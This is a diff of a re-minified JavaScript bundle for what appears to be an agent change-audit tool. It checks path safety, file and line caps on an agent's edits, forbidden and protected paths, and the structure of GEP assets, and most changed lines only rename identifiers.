 n)?String(n):"null":typeof n=="string"?JSON.stringify(n):Array.isArray(n)?"["+n.map(Ks).join(",")+"]":typeof n=="object"?
-"{"+Object.keys(n).sort().map(s=>JSON.stringify(s)+":"+Ks(n[s])).join(",")+"}":"null"}function vi(n,e){if(!n||typeof n!=
+"{"+Object.keys(n).sort().map(s=>JSON.stringify(s)+":"+Ks(n[s])).join(",")+"}":"null"}function ki(n,e){if(!n||typeof n!=
 "object")return null;const t=new Set(Array.isArray(e)?e:["asset_id"]),s={};for(const o of Object.keys(n))t.has(o)||(s[o]=
-n[o]);const r=Ks(s);return"sha256:"+(0,ia.createHash)("sha256").update(r,"utf8").digest("hex")}function DR(n){if(!n||typeof n!=
-"object")return!1;const e=n.asset_id;return!e||typeof e!="string"?!1:e===vi(n)}const xR=Object.freeze(["repair","optimiz\
-e","innovate","explore"]),OR=null,AR=Object.freeze(["success","failed"]),SR=Object.freeze(["generated","reused","referen\
-ce","user_authored"]),TR=Object.freeze(["low","medium","high"]),IR=Object.freeze(["private","unlisted","public"]),$R=Object.
-freeze(["cheap","standard","premium"]),RR=Object.freeze(["cheap","mid","expensive"]),NR=Object.freeze(["off","low","medi\
-um","high"]),FR=Object.freeze(["warn","block"]),PR=Object.freeze(["behavioral","structural","performance","safety"]),LR=Object.
-freeze(["ci","local","prod","sandbox"]),jR=Object.freeze(["pass","fail","inconclusive"]);var H=at(857);const fy=/[\p{Cf}\p{Default_Ignorable_Code_Point}]/gu;
-function hy(n,e){const s=n.replace(fy,"").replace(/:.*$/s,"").replace(/(?<![. ])[. ]+$/,"").normalize("NFC").toUpperCase().
-toLowerCase();return s===e||my(s,e)}const py=/^[\w./-]*$/;function jl(n,e){return!py.test(n)||n.toLowerCase().includes(e)}
-function my(n,e){const[,t]=/^(.+)~[1-9]\d{0,5}$/.exec(n)??[];return t!==void 0&&t===e.replaceAll(".","").slice(0,6)}const Ml=40,
-oa={path:"",kind:"directory",tracked:!0},Gl=/^[A-Za-z]:/,Hl=/^[\w-][\w.-]*(?:\/[\w-][\w.-]*)*$/;function ft(n){if(Hl.test(
+n[o]);const r=Ks(s);return"sha256:"+(0,aa.createHash)("sha256").update(r,"utf8").digest("hex")}function SR(n){if(!n||typeof n!=
+"object")return!1;const e=n.asset_id;return!e||typeof e!="string"?!1:e===ki(n)}const TR=Object.freeze(["repair","optimiz\
+e","innovate","explore"]),IR=null,$R=Object.freeze(["success","failed"]),RR=Object.freeze(["generated","reused","referen\
+ce","user_authored"]),NR=Object.freeze(["low","medium","high"]),FR=Object.freeze(["private","unlisted","public"]),PR=Object.
+freeze(["cheap","standard","premium"]),LR=Object.freeze(["cheap","mid","expensive"]),jR=Object.freeze(["off","low","medi\
+um","high"]),MR=Object.freeze(["warn","block"]),GR=Object.freeze(["behavioral","structural","performance","safety"]),HR=Object.
+freeze(["ci","local","prod","sandbox"]),zR=Object.freeze(["pass","fail","inconclusive"]);var H=at(857);const hy=/[\p{Cf}\p{Default_Ignorable_Code_Point}]/gu;
+function py(n,e){const s=n.replace(hy,"").replace(/:.*$/s,"").replace(/(?<![. ])[. ]+$/,"").normalize("NFC").toUpperCase().
+toLowerCase();return s===e||gy(s,e)}const my=/^[\w./-]*$/;function Ml(n,e){return!my.test(n)||n.toLowerCase().includes(e)}
+function gy(n,e){const[,t]=/^(.+)~[1-9]\d{0,5}$/.exec(n)??[];return t!==void 0&&t===e.replaceAll(".","").slice(0,6)}const Gl=40,
+ca={path:"",kind:"directory",tracked:!0},Hl=/^[A-Za-z]:/,zl=/^[\w-][\w.-]*(?:\/[\w-][\w.-]*)*$/;function ft(n){if(zl.test(
 n))return n;const e=n.replaceAll("\\","/");if(e.startsWith("/")||e.includes("\0"))return;const t=[];for(const s of e.split(
-"/"))if(!(s===""||s===".")){if(s!=="..")t.push(s);else if(t.pop()===void 0)return}return Gl.test(e)||Gl.test(t[0]??"")?void 0:
+"/"))if(!(s===""||s===".")){if(s!=="..")t.push(s);else if(t.pop()===void 0)return}return Hl.test(e)||Hl.test(t[0]??"")?void 0:
 t.join("/")}function At(n,e){if(e.startsWith("/")||e.includes("\0"))return{kind:"outside",path:e};const t=e.split("/").reverse(),
-s=[];let r=oa,i=0;for(let o=t.pop();o!==void 0;o=t.pop()){if(o===""||o===".")continue;if(r.kind!=="directory")return{kind:"\
-missing",path:[...s,o].join("/")};if(o===".."){if(s.pop()===void 0)return{kind:"outside",path:e};r=gy(s);continue}const c=[
+s=[];let r=ca,i=0;for(let o=t.pop();o!==void 0;o=t.pop()){if(o===""||o===".")continue;if(r.kind!=="directory")return{kind:"\
+missing",path:[...s,o].join("/")};if(o===".."){if(s.pop()===void 0)return{kind:"outside",path:e};r=Cy(s);continue}const c=[
 ...s,o].join("/"),l=n.stat(c);if(l===void 0)return{kind:"missing",path:c};if(l.kind!=="symlink"){s.push(o),r=l;continue}
-if(i+=1,i>Ml)return{kind:"loop",path:e};const B=n.readlink(c);if(B===void 0||B===""||B.length>zl)return{kind:"missing",path:c};
+if(i+=1,i>Gl)return{kind:"loop",path:e};const B=n.readlink(c);if(B===void 0||B===""||B.length>Ul)return{kind:"missing",path:c};
 if(B.startsWith("/")||B.includes("\0"))return{kind:"outside",path:c};t.push(...B.split("/").reverse())}return{kind:"insi\
-de",path:r.path,entry:r}}function gy(n){return n.length===0?oa:{...oa,path:n.join("/")}}function rn(n,e,{ignoreCase:t=!1}={}){
-const s=ft(n),r=ft(e);return s===void 0||r===void 0?!1:Jl(r,s,t)}function vr(n,e,{at:t,tree:s}){if(Ul(n))return;const i=(Di(
-n)??[...Di(e)??[],...ca(n)]).reverse(),o=aa((Di(t)??[]).filter(B=>B!=="")),c=[];let l=0;for(let B=i.pop();B!==void 0;B=i.
-pop()){if(B===""||B===".")continue;if(B===".."){c.pop();continue}c.push(B);const d=s&&Cy(s,o,aa(c));if(d===void 0)continue;
-if(l+=1,l>Ml||Ul(d))return;const h=Di(d);h===void 0?c.pop():c.length=0,i.push(...(h??ca(d)).reverse())}return aa(c)}function ki(n,e,{
-ignoreCase:t=!1}={}){return Jl(e.slice(1),n.slice(1),t)}function Cy(n,e,t){if(ki(t,e))return n.readlink(e==="/"?t.slice(
-1):t.slice(e.length+1))}function aa(n){return`/${n.join("/")}`}function ca(n){return n.replaceAll("\\","/").split("/")}function Di(n){
-return/^(?:[\\/]|[A-Za-z]:[\\/])/.test(n)?ca(n):void 0}const zl=4096;function Ul(n){return n.length>zl?!0:n.includes("\0")||
-/^(?:\\\\|[A-Za-z]:(?![\\/]))/.test(n)}function Jl(n,e,t){if(n==="")return!0;const[s,r]=t?[xi(e),xi(n)]:[e,n];return s===
-r||s.startsWith(`${r}/`)}function xi(n){return Hl.test(n)?n.toLowerCase():n.normalize("NFC").toUpperCase().toLowerCase()}
-function yy(n,e){const t=ft(n);if(t!==void 0)return`/${xi(t)}/`.includes(`/${xi(e)}/`);const s=n.split("/");return s.some(
-(r,i)=>rn(s.slice(i).join("/"),e,{ignoreCase:!0}))}function wy(n){return/[*?]|^!|\{[^{},]*,[^{}]*\}|^["'`].*["'`]$/.test(
-n)||n.trim()!==n}const by=["assets/gep/events.jsonl",".evolver/gep/events.jsonl",".evomap/assets/events.jsonl"],MR=null;
-function _y(n){return Ey(n)||Wl(n)}const Zl=/(?<=^|\/)events\.[^/]+\.jsonl$/is;function Ey(n){return Zl.test(n)&&Wl(n.replace(
-Zl,"events.jsonl"))}function Wl(n){return jl(n,"events.jsonl")&&by.some(e=>yy(n,e))}const Oi=10,Kl=13,vy=new Set([32,9,Oi,
-Kl]);function GR(n,e){const t=ua(n),s=ua(e);let r=0;for(let i=t.next().value;i;){const o=t.next().value,c=s.next().value;
-if(!c||!Dy(i.bytes,c.bytes,o===void 0))return{kind:"rewritten",line:i.line,was:i.bytes,is:c?.bytes};r=c.end,i=o}return{kind:"\
-appended",from:r}}function HR(n){return ua(n).next().value!==void 0}function*ua(n){let e=0;for(let t=0;t<n.length;){const s=n.
-indexOf(Oi,t),r=s<0?n.length:s,i=n.subarray(t,r);t=Math.min(r+1,n.length),e+=1,ky(i)||(yield{bytes:i,line:e,end:t})}}function ky(n){
-for(const e of n)if(!vy.has(e))return!1;return!0}function Dy(n,e,t){return t?ql(n).equals(ql(e)):n.equals(e)}function ql(n){
-return n.at(-1)===Kl?n.subarray(0,-1):n}function zR(n,e){let t=0;for(let s=n.indexOf(Oi);s>=0&&s<e;s=n.indexOf(Oi,s+1))t+=
-1;return t}var xy=at(731);const la=20;function UR(n,e){const t={files:0,lines:0,exempt_files:0,exempt_lines:0};for(const s of n.
+de",path:r.path,entry:r}}function Cy(n){return n.length===0?ca:{...ca,path:n.join("/")}}function rn(n,e,{ignoreCase:t=!1}={}){
+const s=ft(n),r=ft(e);return s===void 0||r===void 0?!1:Zl(r,s,t)}function vr(n,e,{at:t,tree:s}){if(Jl(n))return;const i=(xi(
+n)??[...xi(e)??[],...la(n)]).reverse(),o=ua((xi(t)??[]).filter(B=>B!=="")),c=[];let l=0;for(let B=i.pop();B!==void 0;B=i.
+pop()){if(B===""||B===".")continue;if(B===".."){c.pop();continue}c.push(B);const d=s&&yy(s,o,ua(c));if(d===void 0)continue;
+if(l+=1,l>Gl||Jl(d))return;const h=xi(d);h===void 0?c.pop():c.length=0,i.push(...(h??la(d)).reverse())}return ua(c)}function Di(n,e,{
+ignoreCase:t=!1}={}){return Zl(e.slice(1),n.slice(1),t)}function yy(n,e,t){if(Di(t,e))return n.readlink(e==="/"?t.slice(
+1):t.slice(e.length+1))}function ua(n){return`/${n.join("/")}`}function la(n){return n.replaceAll("\\","/").split("/")}function xi(n){
+return/^(?:[\\/]|[A-Za-z]:[\\/])/.test(n)?la(n):void 0}const Ul=4096;function Jl(n){return n.length>Ul?!0:n.includes("\0")||
+/^(?:\\\\|[A-Za-z]:(?![\\/]))/.test(n)}function Zl(n,e,t){if(n==="")return!0;const[s,r]=t?[Oi(e),Oi(n)]:[e,n];return s===
+r||s.startsWith(`${r}/`)}function Oi(n){return zl.test(n)?n.toLowerCase():n.normalize("NFC").toUpperCase().toLowerCase()}
+function wy(n,e){const t=ft(n);if(t!==void 0)return`/${Oi(t)}/`.includes(`/${Oi(e)}/`);const s=n.split("/");return s.some(
+(r,i)=>rn(s.slice(i).join("/"),e,{ignoreCase:!0}))}function by(n){return/[*?]|^!|\{[^{},]*,[^{}]*\}|^["'`].*["'`]$/.test(
+n)||n.trim()!==n}const _y=["assets/gep/events.jsonl",".evolver/gep/events.jsonl",".evomap/assets/events.jsonl"],UR=null;
+function Ey(n){return vy(n)||Kl(n)}const Wl=/(?<=^|\/)events\.[^/]+\.jsonl$/is;function vy(n){return Wl.test(n)&&Kl(n.replace(
+Wl,"events.jsonl"))}function Kl(n){return Ml(n,"events.jsonl")&&_y.some(e=>wy(n,e))}const Ai=10,ql=13,ky=new Set([32,9,Ai,
+ql]);function JR(n,e){const t=da(n),s=da(e);let r=0;for(let i=t.next().value;i;){const o=t.next().value,c=s.next().value;
+if(!c||!xy(i.bytes,c.bytes,o===void 0))return{kind:"rewritten",line:i.line,was:i.bytes,is:c?.bytes};r=c.end,i=o}return{kind:"\
+appended",from:r}}function ZR(n){return da(n).next().value!==void 0}function*da(n){let e=0;for(let t=0;t<n.length;){const s=n.
+indexOf(Ai,t),r=s<0?n.length:s,i=n.subarray(t,r);t=Math.min(r+1,n.length),e+=1,Dy(i)||(yield{bytes:i,line:e,end:t})}}function Dy(n){
+for(const e of n)if(!ky.has(e))return!1;return!0}function xy(n,e,t){return t?Yl(n).equals(Yl(e)):n.equals(e)}function Yl(n){
+return n.at(-1)===ql?n.subarray(0,-1):n}function WR(n,e){let t=0;for(let s=n.indexOf(Ai);s>=0&&s<e;s=n.indexOf(Ai,s+1))t+=
+1;return t}var Oy=at(731);const Ba=20;function KR(n,e){const t={files:0,lines:0,exempt_files:0,exempt_lines:0};for(const s of n.
 files){const{path:r,oldPath:i}=s,o=i===void 0?1:2,c=Number(e.has(r))+Number(i!==void 0&&e.has(i));t.files+=o-c,t.exempt_files+=
-c,c===o?t.exempt_lines+=Vl(s):t.lines+=Vl(s)}return t}function JR({files:n,lines:e,exempt_files:t,exempt_lines:s},r){return r===
-"reference"?{files:n,lines:e}:{files:n+t,lines:e+s}}function Oy(n,e,t,s){const r=Yl(e);return t.files>s.files||t.lines>s.
-lines?"hard_cap_breach":n>2*r?"critical_overrun":n>r?"exceeded":(0,xy.yl)(r,n)?"approaching_limit":"within_limit"}function Ay(n,{
-files:e,lines:t},s,r){const i=Yl(s);switch(n){case"hard_cap_breach":return`HARD CAP BREACH: ${e} files / ${t} lines exce\
+c,c===o?t.exempt_lines+=Ql(s):t.lines+=Ql(s)}return t}function qR({files:n,lines:e,exempt_files:t,exempt_lines:s},r){return r===
+"reference"?{files:n,lines:e}:{files:n+t,lines:e+s}}function Ay(n,e,t,s){const r=Vl(e);return t.files>s.files||t.lines>s.
+lines?"hard_cap_breach":n>2*r?"critical_overrun":n>r?"exceeded":(0,Oy.yl)(r,n)?"approaching_limit":"within_limit"}function Sy(n,{
+files:e,lines:t},s,r){const i=Vl(s);switch(n){case"hard_cap_breach":return`HARD CAP BREACH: ${e} files / ${t} lines exce\
 eds system limit (${r.files} files / ${r.lines} lines)`;case"critical_overrun":return`CRITICAL OVERRUN: ${e} files > ${2*
 i} (2x limit of ${i}). Agent likely performed bulk/unintended operation.`;case"exceeded":return`max_files exceeded: ${e}\
  > ${i}`;case"approaching_limit":return`approaching limit: ${e} / ${i} files (${Math.round(e/i*100)}%)`;case"within_limi\
-t":return`${e} / ${i} files`}}function Yl(n){return typeof n=="number"&&n>0?n:la}function ZR(n){return n.oldPath===void 0?
-[n.path]:[n.path,n.oldPath]}function Vl(n){return n.added+n.deleted}var ct=at(561);function WR(n,e){return n.files.flatMap(
-t=>namesOf(t).map(s=>({path:s,via:s===t.path&&t.newMode===Sy?Iy(e,s):""})))}function KR(n,e){const t=new Map;return s=>{
-const r=t.get(s)??Ty(n,$y(e,s));return t.set(s,r),r}}function qR(n){return{location:{path:n,line:1,column:1}}}const Sy="\
-120000";function Ty(n,e){const t=s=>e.some(r=>isWithin(s,r));return n.flatMap(s=>t(s.path)?[{path:s.path,via:""}]:s.via!==
-""&&t(s.via)?[s]:[])}function Iy(n,e){const t=resolveInTree(n,e);return t.kind==="inside"||t.kind==="missing"?t.path:""}
-function $y(n,e){const t=resolveInTree(n,e);return t.kind==="inside"?[e,t.path]:[e]}const da=3;function YR(n){const e=n.
-length-da;return n.slice(0,da).map((t,s)=>e>0&&s===da-1?{...t,more:e}:t)}const Ql=[".git","node_modules"];function Ba(n){
-const e=Ql.filter(s=>jl(n,s));if(e.length===0)return;const t=(ft(n)??n).split("/");return e.find(s=>t.some(r=>hy(r,s)))}
-function VR({touched:n,touchesOf:e,policy:t}){const s=n.flatMap(Ry),r=Ql.flatMap(o=>someTouches(s.flatMap(({touch:c,...l})=>l.
+t":return`${e} / ${i} files`}}function Vl(n){return typeof n=="number"&&n>0?n:Ba}function YR(n){return n.oldPath===void 0?
+[n.path]:[n.path,n.oldPath]}function Ql(n){return n.added+n.deleted}var ct=at(561);function VR(n,e){return n.files.flatMap(
+t=>namesOf(t).map(s=>({path:s,via:s===t.path&&t.newMode===Ty?$y(e,s):""})))}function QR(n,e){const t=new Map;return s=>{
+const r=t.get(s)??Iy(n,Ry(e,s));return t.set(s,r),r}}function XR(n){return{location:{path:n,line:1,column:1}}}const Ty="\
+120000";function Iy(n,e){const t=s=>e.some(r=>isWithin(s,r));return n.flatMap(s=>t(s.path)?[{path:s.path,via:""}]:s.via!==
+""&&t(s.via)?[s]:[])}function $y(n,e){const t=resolveInTree(n,e);return t.kind==="inside"||t.kind==="missing"?t.path:""}
+function Ry(n,e){const t=resolveInTree(n,e);return t.kind==="inside"?[e,t.path]:[e]}const fa=3;function eN(n){const e=n.
+length-fa;return n.slice(0,fa).map((t,s)=>e>0&&s===fa-1?{...t,more:e}:t)}const Xl=[".git","node_modules"];function ha(n){
+const e=Xl.filter(s=>Ml(n,s));if(e.length===0)return;const t=(ft(n)??n).split("/");return e.find(s=>t.some(r=>py(r,s)))}
+function tN({touched:n,touchesOf:e,policy:t}){const s=n.flatMap(Ny),r=Xl.flatMap(o=>someTouches(s.flatMap(({touch:c,...l})=>l.
 directory===o?c:[])).map(c=>finding("forbidden-path",{entry:o,by:"nothing may touch",...c},atFile(c.path)))),i=t.blast_radius.
 forbidden_paths.flatMap(o=>someTouches(e(o)).map(c=>finding("forbidden-path",{entry:o,by:"the policy forbids",...c},atFile(
-c.path))));return[...r,...i]}function Ry({path:n,via:e}){const t=Ba(n),s=t??Ba(e);return s===void 0?[]:[{directory:s,touch:{
-path:n,via:t===void 0?e:""}}]}const Ny=null;function QR(n){const{touched:e,policy:t,policyPath:s,change:r,tree:i,genes:o}=n,
-c=Py(r,i),l=o.some(({binds:h})=>h),B=Xl(t.blast_radius.protected_paths),d=Xl(Ny);return e.flatMap(h=>{const{path:g}=h,C=c.
-get(g),y=jy(h),_=B(y),k=g===s?void 0:d(y);if(_===void 0&&k===void 0)return[];const v=_===void 0?{path:g,pattern:k??"",by:"\
+c.path))));return[...r,...i]}function Ny({path:n,via:e}){const t=ha(n),s=t??ha(e);return s===void 0?[]:[{directory:s,touch:{
+path:n,via:t===void 0?e:""}}]}const Fy=null;function nN(n){const{touched:e,policy:t,policyPath:s,change:r,tree:i,genes:o}=n,
+c=Ly(r,i),l=o.some(({binds:h})=>h),B=ed(t.blast_radius.protected_paths),d=ed(Fy);return e.flatMap(h=>{const{path:g}=h,C=c.
+get(g),y=My(h),_=B(y),k=g===s?void 0:d(y);if(_===void 0&&k===void 0)return[];const v=_===void 0?{path:g,pattern:k??"",by:"\
 the default list"}:{path:g,pattern:_,by:"the policy"},O=_!==void 0||C!==void 0&&l,D={...atFile(g),severity:O?"error":"wa\
-rning",harm:_!==void 0||Fy(g)?"danger":"broken"};return[C===void 0?finding("protected-path",v,D):finding("protected-file\
--destroyed",{...v,how:C},D)]})}function Fy(n){return/(?:^|\/)\.env(?!.*(?:example|sample|template|dist)$)[^/]*$/i.test(n)}
-function Py(n,e){const t=new Map;for(const{status:s,path:r,oldPath:i}of n.files)s==="deleted"&&t.set(r,"deletes"),i!==void 0&&
-t.set(i,"deletes"),(s==="modified"||s==="type_changed")&&e.stat(r)?.size===0&&t.set(r,"empties");return t}const Ly={dot:!0,
-nonegate:!0,nocase:!0,flags:"is"};function Xl(n){const e=n.map(t=>{const s=picomatch(t,Ly);return{pattern:t,covers:i=>s(
-i)||isWithin(i,t,{ignoreCase:!0})}});return t=>e.find(({covers:s})=>t.some(s))?.pattern}function jy({path:n,via:e}){return e===
-""?[n]:[n,e]}function XR(n){return`${/^[AE]/.test(n)?"an":"a"} ${n}`}function mn(n){return typeof n=="object"&&n!==null&&
-!Array.isArray(n)}function eN(n){return n.map(e=>`/${String(e).replaceAll("~","~0").replaceAll("/","~1")}`).join("")}function My({
-type:n,id:e}){return{type:n,id:e}}function fa(n,e=[]){return{location:n.locate(e),subject:My(n)}}var gs=at(56);function tN(n){
-return(e,...t)=>isChange(e)?n(e,...t):[]}async function nN(n,e,...t){const s=Object.entries(n).map(async([r,i])=>{try{return await i(
-e,...t)}catch(o){return[Gy(r,o,t)]}});return(await Promise.all(s)).flat()}function Gy(n,e,[t]){return t===void 0?notJudged(
-`the change; the check "${n}" failed`,e):Hy(t.asset,e,`; the check "${n}" failed`)}function Hy(n,e,t=""){const s=`the ${n.
-type} \`${n.id}\`${t}`;return notJudged(s,e,zy(n))}function zy(n){try{return placeOf(n)}catch{return{location:{path:n.path,
-line:1,column:1},subject:subjectOf(n)}}}function Uy(n,{path:e,detail:t},s){return(0,ct.gk)("claim-not-checked",{claim:n,
-why:`${t} of the log \`${e}\``},s)}function Ai(n,e){const t=new Map;for(const s of n){const r=e(s),i=t.get(r);i?i.push(s):
-t.set(r,[s])}return t}const Jy=["generation_meta","model_name"],Zy=2e3,Wy=/[\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;
-function Ky(n){return n.type!=="Gene"?[]:Jy.filter(e=>{const t=n[e];if(typeof t!="string"&&!mn(t))return!1;const s=JSON.
-stringify(t);return s.length<=Zy&&!Wy.test(s)})}function ed(n){const e=new Set(Ky(n));return e.size===0?n:Object.fromEntries(
-Object.entries(n).filter(([t])=>!e.has(t)))}const qy="gep-a2a",Yy=new Set(["publish","report","fetch"]);function sN(n){return isJsonObject(
-n)&&n.protocol===qy}function rN({message_type:n}){return Yy.has(n)}function Vy({payload:n}){return isJsonObject(n)?n:{}}
-function iN({sender_id:n}){return typeof n=="string"&&n.trim()!==""?n:void 0}const Qy=new Set(["payload","asset"]),Xy=null;
-function oN(n){const e=n.filter(({key:s})=>Qy.has(s));return(e.length===0&&n.length===1?n:e).map(({asset:s})=>s)}function aN(n){
-const e={};for(const t of Xy){const s=n[t];s!=null&&(e[t]=s)}return Object.keys(e).length>0?e:void 0}function cN({value:n,
+rning",harm:_!==void 0||Py(g)?"danger":"broken"};return[C===void 0?finding("protected-path",v,D):finding("protected-file\
+-destroyed",{...v,how:C},D)]})}function Py(n){return/(?:^|\/)\.env(?!.*(?:example|sample|template|dist)$)[^/]*$/i.test(n)}
+function Ly(n,e){const t=new Map;for(const{status:s,path:r,oldPath:i}of n.files)s==="deleted"&&t.set(r,"deletes"),i!==void 0&&
+t.set(i,"deletes"),(s==="modified"||s==="type_changed")&&e.stat(r)?.size===0&&t.set(r,"empties");return t}const jy={dot:!0,
+nonegate:!0,nocase:!0,flags:"is"};function ed(n){const e=n.map(t=>{const s=picomatch(t,jy);return{pattern:t,covers:i=>s(
+i)||isWithin(i,t,{ignoreCase:!0})}});return t=>e.find(({covers:s})=>t.some(s))?.pattern}function My({path:n,via:e}){return e===
+""?[n]:[n,e]}function sN(n){return`${/^[AE]/.test(n)?"an":"a"} ${n}`}function mn(n){return typeof n=="object"&&n!==null&&
+!Array.isArray(n)}function rN(n){return n.map(e=>`/${String(e).replaceAll("~","~0").replaceAll("/","~1")}`).join("")}function Gy({
+type:n,id:e}){return{type:n,id:e}}function pa(n,e=[]){return{location:n.locate(e),subject:Gy(n)}}var gs=at(56);function iN(n){
+return(e,...t)=>isChange(e)?n(e,...t):[]}async function oN(n,e,...t){const s=Object.entries(n).map(async([r,i])=>{try{return await i(
+e,...t)}catch(o){return[Hy(r,o,t)]}});return(await Promise.all(s)).flat()}function Hy(n,e,[t]){return t===void 0?notJudged(
+`the change; the check "${n}" failed`,e):zy(t.asset,e,`; the check "${n}" failed`)}function zy(n,e,t=""){const s=`the ${n.
+type} \`${n.id}\`${t}`;return notJudged(s,e,Uy(n))}function Uy(n){try{return placeOf(n)}catch{return{location:{path:n.path,
+line:1,column:1},subject:subjectOf(n)}}}function Jy(n,{path:e,detail:t},s){return(0,ct.gk)("claim-not-checked",{claim:n,
+why:`${t} of the log \`${e}\``},s)}function Si(n,e){const t=new Map;for(const s of n){const r=e(s),i=t.get(r);i?i.push(s):
+t.set(r,[s])}return t}const Zy=["generation_meta","model_name"],Wy=2e3,Ky=/[\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;
+function qy(n){return n.type!=="Gene"?[]:Zy.filter(e=>{const t=n[e];if(typeof t!="string"&&!mn(t))return!1;const s=JSON.
+stringify(t);return s.length<=Wy&&!Ky.test(s)})}function td(n){const e=new Set(qy(n));return e.size===0?n:Object.fromEntries(
+Object.entries(n).filter(([t])=>!e.has(t)))}const Yy="gep-a2a",Vy=new Set(["publish","report","fetch"]);function aN(n){return isJsonObject(
+n)&&n.protocol===Yy}function cN({message_type:n}){return Vy.has(n)}function Qy({payload:n}){return isJsonObject(n)?n:{}}
+function uN({sender_id:n}){return typeof n=="string"&&n.trim()!==""?n:void 0}const Xy=new Set(["payload","asset"]),ew=null;
+function lN(n){const e=n.filter(({key:s})=>Xy.has(s));return(e.length===0&&n.length===1?n:e).map(({asset:s})=>s)}function dN(n){
+const e={};for(const t of ew){const s=n[t];s!=null&&(e[t]=s)}return Object.keys(e).length>0?e:void 0}function BN({value:n,
 wrappers:e=[],envelope:t}){if(t===void 0&&e.length===0)return canonicalize(n);const{sender_id:s,signature:r}=t??{},i=t&&
-{sender_id:s,signature:[r,Vy(t).signature]};return canonicalize([n,e,i])}var Cs=at(108);const ew=new Map(Object.entries(
+{sender_id:s,signature:[r,Qy(t).signature]};return canonicalize([n,e,i])}var Cs=at(108);const tw=new Map(Object.entries(
 {genes:"Gene",capsules:"Capsule",events:"EvolutionEvent",evolution_events:"EvolutionEvent",validation_reports:"Validatio\
-nReport",mutations:"Mutation",anti_genes:"AntiGene"})),uN=new Set(["assets","results"]),lN=new Map(Object.entries({gene:"\
+nReport",mutations:"Mutation",anti_genes:"AntiGene"})),fN=new Set(["assets","results"]),hN=new Map(Object.entries({gene:"\
 Gene",capsule:"Capsule",event:"EvolutionEvent",evolution_event:"EvolutionEvent",validation_report:"ValidationReport",mutation:"\
-Mutation"})),tw=new Set(["PersonalityState","MemoryGraphEvent","Selector","Task","Pack","Recipe"]);function dN(n){return ASSET_TYPES.
-includes(n)}function BN(n){return typeof n=="string"&&tw.has(n)}function fN(n){return Object.keys(n).some(e=>ew.has(e)&&
-Array.isArray(n[e]))}function hN(n,e){const t=new nw(e);for(const[s,r]of n.entries())t.visitTop(r,s);return t}class nw{candidates=[];messages=[];#e;#t;#s=0;#i=!1;constructor(e){
+Mutation"})),nw=new Set(["PersonalityState","MemoryGraphEvent","Selector","Task","Pack","Recipe"]);function pN(n){return ASSET_TYPES.
+includes(n)}function mN(n){return typeof n=="string"&&nw.has(n)}function gN(n){return Object.keys(n).some(e=>tw.has(e)&&
+Array.isArray(n[e]))}function CN(n,e){const t=new sw(e);for(const[s,r]of n.entries())t.visitTop(r,s);return t}class sw{candidates=[];messages=[];#e;#t;#s=0;#i=!1;constructor(e){
 this.#e=e}visitTop(e,t){this.#i||=e.cut===!0,this.#n(e,"some_asset",[t])}#r(e,t,s,r){const i={node:e,pointer:t,value:s,type:r,
 ...this.#t&&{envelope:this.#t}};return this.candidates.push(i),i}#n(e,t,s){if(isJsonObject(e.value))return this.#u(e,e.value,
-t,s);Array.isArray(e.value)?this.#a(e,t,s):t!=="anything"&&this.#d(e,t,rw(e.value))}#a({children:e=[]},t,s){for(const[r,
-i]of e.entries())this.#n(i,t,[...s,r])}#u(e,t,s,r){const{type:i}=t;if(!(isAssetType(i)||isCompanion(i))||sw(t,s))return this.#o(
+t,s);Array.isArray(e.value)?this.#a(e,t,s):t!=="anything"&&this.#d(e,t,iw(e.value))}#a({children:e=[]},t,s){for(const[r,
+i]of e.entries())this.#n(i,t,[...s,r])}#u(e,t,s,r){const{type:i}=t;if(!(isAssetType(i)||isCompanion(i))||rw(t,s))return this.#o(
 e,t,s,r);const c=isAssetType(i)?this.#r(e,r,t,i):void 0;return this.#h(e,r),c}#o(e,t,s,r){const i=isAssetType(s)?s:Array.
-isArray(t.validation)?"Gene":void 0;if(i===void 0)return this.#c(e,t,s,r);const o=td(t.type);this.#d(e,s,`${o}; it is au\
-dited as ${withArticle(i)}`);const c=this.#r(e,r,t,i);return this.#h(e,r),c}#c(e,t,s,r){const i=td(t.type),o=this.#t,c=isMessage(
+isArray(t.validation)?"Gene":void 0;if(i===void 0)return this.#c(e,t,s,r);const o=nd(t.type);this.#d(e,s,`${o}; it is au\
+dited as ${withArticle(i)}`);const c=this.#r(e,r,t,i);return this.#h(e,r),c}#c(e,t,s,r){const i=nd(t.type),o=this.#t,c=isMessage(
 t);c&&(this.messages.push(e),this.#t=t);const l=this.candidates.length+this.#s,B=(e.children??[]).flatMap(C=>{const y=C.
 key?.name??"",_=this.#B(C,[...r,y]);return _?[{key:y,asset:_}]:[]});this.#t=o,this.candidates.length+this.#s===l&&!c&&s===
 "some_asset"&&this.#d(e,s,i);const h=described(B),g=statementsIn(t);if(g)for(const C of h)C.wrappers=[...C.wrappers??[],
@@ -3064,100 +3064,100 @@ g];return h.length===1?h[0]:void 0}#B(e,t){const s=LISTS.get(e.key?.name??""),r=
 "")?this.#p(e,t):this.#n(e,r&&isJsonObject(e.value)?r:"anything",t)}#p(e,t){return this.#n(e,Array.isArray(e.value)?"som\
 e_asset":"anything",t)}#h(e,t){for(const{key:s,value:r,children:i=[]}of e.children??[]){const o=LISTS.get(s?.name??"");if(!(!o||
 !Array.isArray(r)))for(const[c,l]of i.entries())isJsonObject(l.value)&&this.#n(l,o,[...t,s?.name??"",c])}}#d(e,t,s){if(this.#i)
-return;const r=isAssetType(t)?withArticle(t):"an asset";this.#e.add("not-an-asset",e,`expected ${r}, found ${s}`)}}function sw({
+return;const r=isAssetType(t)?withArticle(t):"an asset";this.#e.add("not-an-asset",e,`expected ${r}, found ${s}`)}}function rw({
 type:n,validation:e},t){return!Array.isArray(e)||e.length===0?!1:n!=="Gene"&&(t==="Gene"||isCompanion(n)||n==="AntiGene")}
-function rw(n){return n===null?"null":`a ${typeof n}`}function td(n){return n===void 0?'an object without a "type"':typeof n!=
-"string"?'an object whose "type" is not a string':`an object of type ${JSON.stringify(n.slice(0,40))}`}var pN=at(547);const Le=sn(
-import.meta.url)("node:path");function Wt(n){return n==="file"||n==="executable"}function qs(n,e){return e===""?n:sd(n,e,
-()=>iw(n,e))}function Si(n,e){return sd(n,`../${e}`,()=>ow(n,e))}const nd=new WeakMap;function sd(n,e,t){const s=nd.get(
-n)??new Map;nd.set(n,s);const r=s.get(e)??t();return s.set(e,r),r}function iw(n,e){const t=`${e}/`,s=c=>c===""?e:t+c,r=c=>({
